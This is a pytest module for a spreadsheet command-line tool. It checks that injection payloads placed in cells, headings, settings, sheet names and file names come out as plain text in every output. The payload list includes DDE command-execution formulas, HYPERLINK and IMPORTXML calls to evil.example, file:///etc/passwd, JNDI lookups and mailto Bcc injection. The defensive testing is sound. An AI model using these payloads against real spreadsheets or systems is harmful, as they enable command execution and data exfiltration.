"""Nothing active leaves: hostile text in every place that people can type into, through every command.

The same commands are run over a log of harmless words and over one of hostile texts. Whatever can act in a workbook,
formulas, links, elements, names, codes of page footers, is the same in both, but for the links to the log's own lines
and the messages to the addresses in it.
"""

import contextlib
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import unquote
from xml.etree import ElementTree
from xml.sax.saxutils import escape

import pytest
from handmade import MAIN, OFFICE, pack, parts
from package_checks import check_package

from sheetkit.cli import main
from sheetkit.template.store import shipped

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "{=1+1}",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    '=HYPERLINK("http://evil.example/","x")',
    '=IMPORTXML("http://evil.example/","//a")',
    "javascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x.xlsx",
    "//evil.example/share",
    "http://evil.example/",
    "www.evil.example",
    "mailto:a@evil.example?bcc=b@evil.example",
    "internal:Summary!A1",
    "external:evil.xlsx",
    "#Summary!A1",
    "<f>1+1</f>",
    "<r><t>x</t></r>",
    "]]><f>1+1</f><![CDATA[",
    "&lt;f&gt;",
    '&P&N&D&F&"evil"&A&G&Z',
    "_x003D_1+1_x000D_",
    "x\r\nBcc: b@evil.example",
    "%0d%0aBcc:b@evil.example",
    "a&bcc=b@evil.example&body=x",
    "\u202egnp.exe\u202c",
    "\x1b[31mred\x1b]0;title\x07",
    "\x9b31m",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%s%n",
    "A1:XFD1048576",
    "_xlnm.Print_Area",
)
HARMLESS = "Some words"
BAD_SHEETS = ("=1+1", "it's'!A1", "<f>1</f>", "&P&N", 'a&b"c', "x#y%20z")
BAD_FILES = (
    "=1+1.xlsx",
    "-o.xlsx",
    "a\nb.xlsx",
    "javascript:alert(1).xlsx",
    "file:..xlsx",
    "\\\\evil.example\\x.xlsx",
    "C:\\x.xlsx",
    "x#y?z%0d&P.xlsx",
    "\u202egnp.xlsx",
    "<f>1<\uff0ff>.xlsx",
    "it's'!A1.xlsx",
    "x" * 180 + ".xlsx",
)
ACTIVE = ("f", "formula", "formula1", "formula2", "calculatedColumnFormula", "definedName")
FOOTER = re.compile(r"&L&11 (?P<title>.*)&C&11&A&R&11Page &P of &N", re.DOTALL)
Active = set[tuple[str, str]]
DAYS = ("2026-11-16", "2026-11-23")
DATES = {"handed_off": 46_300, "expected_back": 46_330, "checkpoint": 46_310}


def _text(text: str) -> str:
    """Return a cell's XML for a text, with what XML cannot hold escaped as Excel does."""
    held = re.sub("[\x00-\x08\x0b-\x1f]", lambda found: f"_x{ord(found[0]):04X}_", text)
    return f'<c t="inlineStr"><is><t xml:space="preserve">{escape(held)}</t></is></c>'


def write_log(path: Path, texts: tuple[str, ...], sheet: str = "Log", email: str = "ana@example.org") -> Path:
    """Write a log: one line for each text, which stands in every column of it but the dates, and in a heading."""
    columns = [column for column in shipped().columns if not column.is_live]
    headings = "".join(_text(column.title) for column in columns) + "".join(_text(text) for text in texts[:40])
    rows = [f"<row>{headings}</row>"]
    for number, text in enumerate(texts):
        cells = []
        for column in columns:
            if column.name in DATES:
                cells.append(f'<c s="1"><v>{DATES[column.name] - number % 40}</v></c>')
            elif column.name == "email":
                cells.append(_text(email if number % 2 else text))
            elif column.name == "status":
                cells.append(_text("Open" if number % 3 else text))
            elif column.name == "returned":
                cells.append("<c/>")
            else:
                cells.append(_text(text))
        rows.append(f"<row>{''.join(cells)}{_text(text) * min(len(texts), 40)}</row>")
    names = "".join(
        f'<definedName name="{setting.name}">Settings!$B${number}</definedName>'
        for number, setting in enumerate(shipped().settings, start=1)
    )
    made = parts(
        "".join(rows),
        formats="14",
        names=names,
        sheets={escape(sheet, {'"': "&quot;"}): "visible", "Settings": "visible"},
    )
    settings = "".join(f"<row><c/>{_text(text)}</row>" for text in texts[: len(shipped().settings)])
    made["xl/worksheets/sheet2.xml"] = f'<worksheet xmlns="{MAIN}"><sheetData>{settings}</sheetData></worksheet>'
    return pack(path, made)


def run(*arguments: str) -> tuple[int, str]:
    """Run a command; return its exit code and all that it prints."""
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
        code = main(arguments)
    return code, printed.getvalue()


def run_some(log: Path) -> Iterator[tuple[str, str]]:
    """Run the commands that show a log; yield what each is and prints."""
    name = f"./{log.name}" if log.name.startswith("-") else log.name
    yield "review", run("review", name, "--as-of", DAYS[1])[1]
    yield "check", run("check", name, "--annotate", "copy.xlsx")[1]
    yield "check", run("check", name, "--json")[1]


def run_all(folder: Path, log: Path) -> Iterator[tuple[str, str]]:
    """Run every command over a log; yield what each is and prints."""
    name = log.name
    yield "review", run("review", name, "--as-of", DAYS[0])[1]
    yield from run_some(log)
    yield "review", run("review", name, "--as-of", DAYS[1], "--split", "-o", "split.xlsx")[1]
    yield "adopt", run("adopt", name, "-o", "adopted.xlsx")[1]
    yield "upgrade", run("upgrade", name, "-o", "upgraded.xlsx")[1]
    (folder / "second.xlsx").write_bytes(log.read_bytes())
    yield "review", run("review", name, "second.xlsx", "--as-of", DAYS[1])[1]


def active(path: Path) -> Active:
    """Return all that can act in a workbook: (part's kind, what it is)."""
    found: Active = set()
    with zipfile.ZipFile(path) as package:
        for part in package.namelist():
            kind = re.sub(r"\d+", "", part)
            found.add(("part", kind))
            for element in ElementTree.fromstring(package.read(part)).iter():
                found.add((kind, element.tag))
                found |= {(kind, f"{element.tag} {name}") for name in element.attrib}
                name = element.tag.rsplit("}", 1)[-1]
                if name in ACTIVE:
                    found.add((name, f"{element.get('name', '')} {_shape(element.text or '')}"))
                elif name == "oddFooter":
                    assert (said := FOOTER.fullmatch(element.text or "")), element.text
                    assert "&" not in said["title"].replace("&&", "")
                    assert len(re.findall("&+$", said["title"])) == 0 or said["title"].endswith("&&")
    return found


def _shape(formula: str) -> str:
    """Return a formula with the places of cells left out: a longer or wider log has the same formulas elsewhere."""
    return re.sub(r"\$?\b[A-Z]{1,3}\$?\d+", "CELL", formula)


def links(path: Path) -> Iterator[tuple[str, str]]:
    """Yield (target, place) of each link in a workbook; '' for the workbook itself, and for no place in the target."""
    with zipfile.ZipFile(path) as package:
        for part in package.namelist():
            if not part.startswith("xl/worksheets/sheet"):
                continue
            used: set[str | None] = set()
            rels = part.replace("sheets/", "sheets/_rels/") + ".rels"
            targets = {
                relation.get("Id"): relation.get("Target", "")
                for relation in (ElementTree.fromstring(package.read(rels)) if rels in package.namelist() else ())
                if relation.get("TargetMode") == "External"
            }
            for link in ElementTree.fromstring(package.read(part)).iter(f"{{{MAIN}}}hyperlink"):
                name = link.get(f"{{{OFFICE}}}id")
                used.add(name)
                yield targets[name] if name else "", link.get("location", "")
            assert set(targets) <= used, "a target without a link"


def check_links(path: Path, logs: tuple[str, ...], sheets: tuple[str, ...], address: str) -> int:
    """Check that each link leads to a line of a log, a cell of the workbook itself or a message; count them."""
    with zipfile.ZipFile(path) as package:
        own = [
            sheet.get("name", "")
            for sheet in ElementTree.fromstring(package.read("xl/workbook.xml")).iter()
            if "sheetId" in sheet.attrib
        ]
    quoted = ["'" + name.replace("'", "''") + "'" for name in (*own, *sheets, "Settings")]
    number = 0
    for target, place in links(path):
        number += 1
        if target.startswith("mailto:"):
            assert re.fullmatch(r"mailto:[^?&]*\?subject=[^?&=]*&body=[^?&=]*", target), target
            assert unquote(target[7:].split("?")[0]) == address
            assert not place
            continue
        if target and not place:
            assert unquote(target) in logs, target
            continue
        sheet, _, cell = place.rpartition("!")
        assert sheet in quoted, place
        assert re.fullmatch(r"[A-Z]{1,3}\d{1,7}", cell), place
        assert not re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:|[\\/]", target), target
        assert not target or unquote(target) in logs, target
    return number


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Active:
    """What can act in any output of any command over logs of harmless words, a long one and a short one."""
    folder = tmp_path_factory.mktemp("harmless")
    found: Active = set()
    words = (*(f"{HARMLESS} {number}" for number in range(len(HOSTILE) - 1)), " outer \n spaces ")
    with contextlib.chdir(folder):
        for name, texts in (("log.xlsx", words), ("short.xlsx", words[:3])):
            log = write_log(folder / name, texts)
            list(run_all(folder, log) if name == "log.xlsx" else run_some(log))
            for path in outputs(folder, log):
                found |= active(path)
    return found


def outputs(folder: Path, log: Path) -> list[Path]:
    """Return the workbooks that commands have made."""
    return [path for path in folder.iterdir() if path.name not in (log.name, "log.xlsx", "second.xlsx")]


def test_hostile_text_in_every_cell_heading_and_setting_stays_text(
    tmp_path: Path, harmless: Active, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    log = write_log(tmp_path / "log.xlsx", HOSTILE)
    before = log.read_bytes()
    for command, printed in run_all(tmp_path, log):
        assert_plain(printed, command)
    assert log.read_bytes() == before
    made = outputs(tmp_path, log)
    assert len(made) >= 7
    for path in made:
        # A heading of one's own may hold what formulas would have to escape: none names it.
        assert [said for said in check_package(path) if "needs escapes" not in said] == []
        assert active(path) <= harmless, path.name
        check_links(path, ("log.xlsx", "second.xlsx"), ("Log",), "ana@example.org")
    assert check_links(tmp_path / "log-review-2026-11-23.xlsx", ("log.xlsx",), ("Log",), "ana@example.org") > 20


@pytest.mark.parametrize("sheet", BAD_SHEETS)
def test_a_sheets_name_stays_a_name(
    tmp_path: Path, harmless: Active, monkeypatch: pytest.MonkeyPatch, sheet: str
) -> None:
    monkeypatch.chdir(tmp_path)
    log = write_log(tmp_path / "log.xlsx", HOSTILE[:4], sheet)
    quoted = "'" + sheet.replace("'", "''") + "'"
    for command, printed in run_some(log):
        assert_plain(printed, command)
    for path in outputs(tmp_path, log):
        assert check_package(path) == []
        check_links(path, ("log.xlsx", "second.xlsx"), (sheet,), "ana@example.org")
        seen = {(name, text.replace(_shape(quoted), "Log")) for name, text in active(path)}
        assert seen <= harmless, path.name


@pytest.mark.parametrize("name", BAD_FILES)
def test_a_files_name_stays_a_name(
    tmp_path: Path, harmless: Active, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    log = write_log(tmp_path / name, HOSTILE[:3])
    for command, printed in run_some(log):
        assert_plain(printed, command)
    made = outputs(tmp_path, log)
    assert len(made) == 2
    for path in made:
        assert check_package(path) == []
        assert active(path) <= harmless, path.name
        check_links(path, (name, "second.xlsx"), ("Log",), "ana@example.org")


def assert_plain(printed: str, command: str) -> None:
    """Check that what goes to a terminal holds no sign that acts there, and that JSON is JSON."""
    acting = re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]", printed)
    assert acting == [], command
    assert "itself failed" not in printed, printed
    if printed.startswith("{"):
        json.loads(printed)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_that_is_asked_about_or_for_is_told_as_plain_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.chdir(tmp_path)
    asked: list[Callable[[], tuple[int, str]]] = [
        lambda: run("explain", "--", text),
        lambda: run("check", "--", text),
        lambda: run("review", "--as-of", f"x{text}", "log.xlsx"),
    ]
    for ask in asked:
        code, printed = ask()
        assert code == 2
        assert_plain(printed, text)
